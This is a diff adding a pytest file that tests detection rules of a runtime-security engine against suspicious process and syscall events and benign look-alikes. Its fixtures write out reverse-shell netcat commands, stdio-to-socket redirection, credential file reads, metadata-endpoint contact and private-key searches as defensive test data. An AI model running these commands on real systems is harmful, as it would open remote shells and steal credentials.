@@ -1,0 +1,164 @@
+"""Each default rule fires on what it is about, and not on a benign look-alike."""
+
+from __future__ import annotations
+
+import pytest
+
+from agent.event import Event
+from filters.chain import StageChain
+
+from .conftest import connect_ev, ev, exec_ev, make_chain, open_ev, proc, rules_hit
+
+NODE = proc("node server.js", exe="/usr/local/bin/node")
+PY = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3")
+WORKER = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3", uid=1000, gid=1000)
+
+
+def _dropped_then_run(c: StageChain) -> list[str]:
+    rules_hit(c, open_ev(PY, "/app/bin/helper", "O_WRONLY|O_CREAT|O_TRUNC"))
+    return rules_hit(c, exec_ev(proc("/app/bin/helper", parent=PY)))
+
+
+# (rule, events that must trigger it)
+TRIGGERS: dict[str, list[Event]] = {
+    "Shell spawned by a server process": [exec_ev(proc("sh -c id", exe="/bin/sh", parent=NODE))],
+    "Read sensitive file by unexpected program": [
+        open_ev(proc("cat /etc/shadow"), "/etc/shadow"),
+        open_ev(PY, "/root/.aws/credentials"),
+        open_ev(PY, "/proc/1/environ"),
+        open_ev(PY, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+        open_ev(PY, "/home/app/.ssh/id_ed25519"),
+    ],
+    "Write below binary directory": [open_ev(PY, "/usr/bin/evil", "O_WRONLY|O_CREAT|O_TRUNC")],
+    "Write below etc": [open_ev(PY, "/etc/cron.d/job", "O_WRONLY|O_CREAT")],
+    "Execution from temporary directory": [exec_ev(proc("/tmp/x/payload", parent=PY))],
+    "Fileless execution via memfd": [
+        exec_ev(proc("payload", exe="/memfd:payload (deleted)", parent=PY))
+    ],
+    "Redirect stdio to network connection": [
+        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=0, fd__type="ipv4", fd__name="1.2.3.4:4444")
+    ],
+    "Netcat with exec option": [
+        exec_ev(proc("nc -e /bin/sh 10.0.0.1 4444", exe="/bin/nc.openbsd", name="nc", parent=PY)),
+        exec_ev(proc("ncat --sh-exec id 10.0.0.1 4444", parent=PY)),
+    ],
+    "Package management process launched": [
+        exec_ev(proc("apt-get install -y curl", parent=PY)),
+        exec_ev(proc("pip install requests", exe="/usr/local/bin/pip", parent=PY)),
+    ],
+    "Contact credentials endpoint": [
+        connect_ev(PY, "169.254.169.254", 80),
+        connect_ev(PY, "169.254.170.2", 80),
+    ],
+    "Ptrace attach or memory write": [
+        ev("ptrace", PY, evt__arg__request="PTRACE_ATTACH", evt__arg__pid=42),
+        ev("ptrace", PY, evt__arg__request="PTRACE_POKEDATA", evt__arg__pid=42),
+        ev("process_vm_writev", PY, evt__arg__pid=42),
+    ],
+    "Search for AWS credentials or private keys": [
+        exec_ev(proc(("grep", "-r", "aws_secret_access_key", "/"), parent=PY)),
+        exec_ev(proc(("find", "/", "-name", "id_rsa"), parent=PY)),
+        exec_ev(proc(("grep", "-rl", "BEGIN RSA PRIVATE KEY", "/home"), parent=PY)),
+    ],
+    "Clear log activities": [open_ev(PY, "/var/log/auth.log", "O_WRONLY|O_TRUNC")],
+    "Setuid or setgid to root by non-root": [
+        ev("setuid", WORKER, evt__arg__uid=0),
+        ev("setresgid", WORKER, evt__arg__rgid=0, evt__arg__egid=0, evt__arg__sgid=0),
+    ],
+}
+
+# (rule, benign events that must not trigger it)
+LOOKALIKES: dict[str, list[Event]] = {
+    "Shell spawned by a server process": [
+        exec_ev(proc("sh -c ls", exe="/bin/sh", parent=proc("bash", exe="/bin/bash"))),
+        exec_ev(proc("convert a b", parent=NODE)),
+    ],
+    "Read sensitive file by unexpected program": [
+        open_ev(proc("sshd"), "/etc/shadow"),
+        open_ev(PY, "/etc/passwd"),  # only writes to passwd are sensitive
+        open_ev(PY, "/root/.cache/pip/x"),
+        open_ev(proc("nginx", exe="/usr/sbin/nginx"), "/etc/nginx/tls/server.key"),
+        open_ev(PY, "/usr/lib/python3/dist-packages/certifi/cacert.pem"),
+        open_ev(PY, "/etc/sudoers.dist"),
+    ],
+    "Write below binary directory": [
+        open_ev(PY, "/usr/bin/python3", "O_RDONLY"),
+        open_ev(proc("dpkg -i x.deb"), "/usr/bin/tool", "O_WRONLY|O_CREAT"),
+        open_ev(PY, "/usr/bin-data/x", "O_WRONLY|O_CREAT"),
+    ],
+    "Write below etc": [
+        open_ev(PY, "/etc/hosts", "O_RDONLY|O_CLOEXEC"),
+        open_ev(proc("ldconfig"), "/etc/ld.so.cache~", "O_WRONLY|O_CREAT"),
+        open_ev(PY, "/etcetera/x", "O_WRONLY|O_CREAT"),
+    ],
+    "Drop and execute new binary": [exec_ev(proc("ls -l", exe="/usr/bin/ls", parent=PY))],
+    "Execution from temporary directory": [exec_ev(proc("/usr/bin/tmpreaper", parent=PY))],
+    "Fileless execution via memfd": [
+        exec_ev(proc("memfd-tool", exe="/usr/bin/memfd-tool", parent=PY)),
+        ev("memfd_create", PY, evt__arg__name="jit"),
+    ],
+    "Redirect stdio to network connection": [
+        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=1, fd__type="file", fd__name="/tmp/log"),
+        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=7, fd__type="ipv4"),
+    ],
+    "Netcat with exec option": [exec_ev(proc("nc -z 10.0.0.1 5432", parent=PY))],
+    "Package management process launched": [exec_ev(proc("python3 -m json.tool", parent=PY))],
+    "Contact credentials endpoint": [connect_ev(PY, "10.0.0.5", 5432)],
+    "Ptrace attach or memory write": [
+        ev("ptrace", PY, evt__arg__request="PTRACE_TRACEME", evt__arg__pid=0),
+        ev("ptrace", PY, evt__arg__request="PTRACE_PEEKDATA", evt__arg__pid=42),
+    ],
+    "Search for AWS credentials or private keys": [
+        exec_ev(proc(("grep", "-r", "TODO", "/app"), parent=PY)),
+        exec_ev(proc(("python3", "-c", "print('aws_secret_access_key')"), parent=PY)),
+    ],
+    "Clear log activities": [
+        open_ev(PY, "/var/log/app.log", "O_WRONLY|O_APPEND|O_CREAT"),
+        open_ev(PY, "/tmp/x.log", "O_WRONLY|O_TRUNC"),
+    ],
+    "Setuid or setgid to root by non-root": [
+        ev("setuid", PY, evt__arg__uid=0),  # already root
+        ev("setuid", PY, evt__arg__uid=1000),  # root dropping privileges
+        ev("setgid", WORKER, evt__arg__gid=1000),
+    ],
+}
+
+
+@pytest.mark.parametrize(
+    ("rule", "event"), [(r, e) for r, es in TRIGGERS.items() for e in es], ids=lambda x: str(x)[:40]
+)
+def test_rule_triggers(rule: str, event: Event) -> None:
+    assert rule in rules_hit(make_chain(), event)
+
+
+@pytest.mark.parametrize(
+    ("rule", "event"),
+    [(r, e) for r, es in LOOKALIKES.items() for e in es],
+    ids=lambda x: str(x)[:40],
+)
+def test_benign_lookalike_does_not_trigger(rule: str, event: Event) -> None:
+    assert rule not in rules_hit(make_chain(), event)
+
+
+def test_drop_and_execute() -> None:
+    c = make_chain()
+    assert "Drop and execute new binary" in _dropped_then_run(c)
+
+
+def test_every_default_rule_has_a_trigger_test() -> None:
+    c = make_chain()
+    assert c.rules is not None
+    names = {r.name for r in c.rules.rules}
+    assert len(names) >= 15
+    assert names - {"Drop and execute new binary"} == set(TRIGGERS)
+
+
+def test_alert_carries_output_priority_tags_and_sensitive_tag() -> None:
+    c = make_chain()
+    _, alerts = c.process([open_ev(proc("cat /etc/shadow"), "/etc/shadow")])
+    (a,) = alerts
+    assert a.priority == "Warning"
+    assert a.output.startswith("Sensitive file /etc/shadow read by cat (cmdline=cat /etc/shadow")
+    assert "T1552" in a.tags
+    assert "sensitive_path" in a.event.tags
+    assert a.uuid
